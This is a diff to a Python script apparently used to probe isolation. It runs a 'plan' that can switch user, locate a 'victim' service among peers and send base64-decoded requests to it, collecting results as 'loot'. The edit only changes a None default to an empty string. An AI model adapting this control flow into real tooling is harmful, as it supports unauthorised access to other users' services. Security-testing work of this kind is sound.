@@ -137,7 +137,7 @@ def main() -> None:
         if plan.get("become"):
             become(*plan["become"])
             loot["user"] = os.getuid()
-        target = None
+        target = ""
         if plan.get("look") and (found := looked_up(plan["look"])):
             plan["parent"], target = found[0], f"{plan['victim']}.{found[1]}"
         if plan.get("root") or plan.get("parent"):
@@ -145,7 +145,7 @@ def main() -> None:
             loot["connected"] = connected(cell)
             if plan.get("root"):
                 loot["peers"] = peers(cell, "server")
-                target = next((peer for peer in loot["peers"] if peer.startswith(f"{plan['victim']}.")), None)
+                target = next((peer for peer in loot["peers"] if peer.startswith(f"{plan['victim']}.")), "")
             for head, data in plan["asks"] if target else ():
                 loot["answers"].append(asked(cell, target, head, base64.b64decode(data)))
     sys.stdout.write(json.dumps(loot))
